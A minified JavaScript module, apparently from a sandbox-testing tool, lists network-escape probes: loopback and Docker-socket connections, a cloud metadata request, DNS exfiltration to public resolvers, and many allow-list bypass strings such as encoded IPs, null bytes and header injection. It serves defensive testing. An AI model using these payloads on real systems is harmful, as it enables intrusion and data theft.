import { createRequire as batonRequire } from "node:module"; const require = batonRequire(import.meta.url);
import{a as e}from"./shared-YDTN7UIM.js";import{once as m}from"node:events";import{connect as l,createServer as f}from"node:net";var u="Baton's attack list",r={baton:u,case:e(t=>`case ${t}`,"case"),escapeBench:e(t=>`SandboxEscapeBench: ${t}`,"escapeBench"),sandboxBench:e(t=>`SandboxBench: ${t}`,"sandboxBench")},P=e(({isRoot:t})=>t?null:"the kernel forbids it to an ordinary user","rootOnly");var a="listed.baton-probe.example",c="moving.baton-probe.example",h="1.1.1.1";function H(t){return async s=>{let i=await g(),d=await t({...s,lookup:e(async n=>[{address:n===c?h:"127.0.0.1",family:4}],"lookup"),dial:e((n,p)=>n===h?l({host:"127.0.0.1",port:i.port,allowHalfOpen:!0}):l({host:n,port:p,allowHalfOpen:!0}),"dial")});return{async close(){await d.close(),i.close()}}}}e(H,"probeEgress");async function g(){let t=f(s=>{s.on("error",()=>{}),s.once("data",i=>{let n=`http://127.0.0.1:${/^GET [^ ]*?\/(\d+) /.exec(i.toString("latin1"))?.[1]??"0"}/`;s.end(`HTTP/1.1 302 Found\r
location: ${n}\r
content-length: 0\r
connection: close\r
\r
`)})});return t.listen(0,"127.0.0.1"),await m(t,"listening"),t.unref(),{port:t.address().port,close:e(()=>t.close(),"close")}}e(g,"startMoving");var b=e(t=>`
  const host = ${t};
  const proxy = process.env.HTTP_PROXY === undefined ? undefined : new URL(process.env.HTTP_PROXY);
  const request = "GET http://" + host + ":" + targets.tcpPort + "/ HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n";
  const connect = "CONNECT " + host + ":" + targets.tcpPort + " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n";
  if (proxy === undefined) await talk({ host: "127.0.0.1", port: targets.tcpPort }, request);
  else {
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, request);
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, connect);
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, connect + "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");
  }`,"reach"),o=e((t,s)=>({name:`fool the list of hosts: ${t}`,source:r.sandboxBench("exfiltration, past the network filter"),attack:b(s),hosts:[a,"*.listed.baton-probe.example"]}),"fooled"),k=e(async({victim:t})=>(await t()).heardByUdp().includes("udp intruder")?"a datagram came out":null,"udp"),E=[{name:"reach another port of 127.0.0.1",source:r.baton,attack:'await talk({ host: "127.0.0.1", port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");',isQuick:!0},{name:"reach another port of ::1",source:r.baton,attack:'await talk({ host: "::1", port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");',forbidden:e(({hasIpv6:t})=>t?null:"this machine has no IPv6","forbidden")},{name:"reach this machine by its own address",source:r.baton,attack:'for (const host of targets.addresses) await talk({ host, port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");',forbidden:e(({hasDefaultRoute:t})=>t?null:"this machine has no network","forbidden"),isQuick:!0},{name:"reach the internet",source:r.sandboxBench("exfiltration, direct connection"),attack:`
      const heard = await talk({ host: "1.1.1.1", port: 443 });
      if (!heard.includes("ENETUNREACH") && !heard.includes("EACCES")) brokeOut("there is a route: " + heard);`,forbidden:e(({hasDefaultRoute:t})=>t?null:"this machine has no network","forbidden"),isQuick:!0},{name:"reach the metadata address of the cloud",source:r.baton,attack:`
      const heard = await talk({ host: "169.254.169.254", port: 80 }, "GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n");
      if (!heard.includes("ENETUNREACH") && !heard.includes("EACCES")) brokeOut("there is a route: " + heard);`,forbidden:e(({hasDefaultRoute:t})=>t?null:"this machine has no network","forbidden")},{name:"send a datagram to this machine",source:r.baton,attack:`
      const socket = dgram.createSocket("udp4");
      for (const host of ["127.0.0.1", ...targets.addresses.filter((one) => !one.includes(":"))])
        await new Promise((resolve) => socket.send("intruder", targets.udpPort, host, () => resolve()));
      await new Promise((resolve) => setTimeout(resolve, 300));`,damage:k},{name:"carry data out by DNS",source:r.sandboxBench("exfiltration, DNS"),attack:`
      const socket = dgram.createSocket("udp4");
      for (const host of ["1.1.1.1", "8.8.8.8", ...targets.resolvers]) {
        const error = await new Promise((resolve) => socket.send("query", 53, host, resolve));
        if (error === null) brokeOut("a query left to " + host);
      }`,forbidden:e(({hasDefaultRoute:t})=>t?null:"this machine has no network","forbidden")},{name:"connect to an abstract Unix socket",source:r.baton,attack:'await talk({ path: "\\0" + targets.abstractName });'},{name:"connect to a Unix socket by its path",source:r.escapeBench("Docker socket"),attack:"await talk({ path: targets.socketPath });",isQuick:!0},o("an address",'"127.0.0.1"'),o("localhost",'"localhost"'),o("a name in upper case with a dot at its end",'"LOCALHOST."'),o("an IPv6 address",'"[::1]"'),o("an IPv4 address in an IPv6 address",'"[::ffff:127.0.0.1]"'),o("a decimal address",'"2130706433"'),o("a hexadecimal address",'"0x7f000001"'),o("an octal address",'"0177.0.0.1"'),o("a short address",'"127.1"'),o("a zero byte after a listed name",`"127.0.0.1\\0.${a}"`),o("an encoded zero byte",`"127.0.0.1%00.${a}"`),o("a listed name as user",`"${a}@127.0.0.1"`),o("a listed name before a slash",`"127.0.0.1/${a}"`),o("a listed name before a back slash",`"127.0.0.1\\\\.${a}"`),o("a listed name in another header",`"127.0.0.1\\r\\nHost: ${a}"`),{name:"fool the list of hosts: a listed host that redirects to a private address",source:r.sandboxBench("exfiltration, past the network filter"),attack:`
      const proxy = process.env.HTTP_PROXY === undefined ? undefined : new URL(process.env.HTTP_PROXY);
      const get = (url) => "GET " + url + " HTTP/1.1\\r\\nHost: " + new URL(url).host + "\\r\\n\\r\\n";
      const target = "http://127.0.0.1:" + targets.tcpPort + "/";
      if (proxy === undefined) await talk({ host: "127.0.0.1", port: targets.tcpPort }, get(target));
      else {
        const through = { host: proxy.hostname, port: Number(proxy.port) };
        const heard = await talk(through, get("http://${c}/" + targets.tcpPort));
        if (!heard.includes("302") || !heard.includes(target)) throw new Error("The redirect did not come: " + heard);
        await talk(through, get(target));
      }`,hosts:[c]},o("a listed name that leads to a private address",`"${a}"`),o("a part of a listed name that leads to a private address",`"a.${a}"`)];export{r as a,P as b,H as c,E as d};
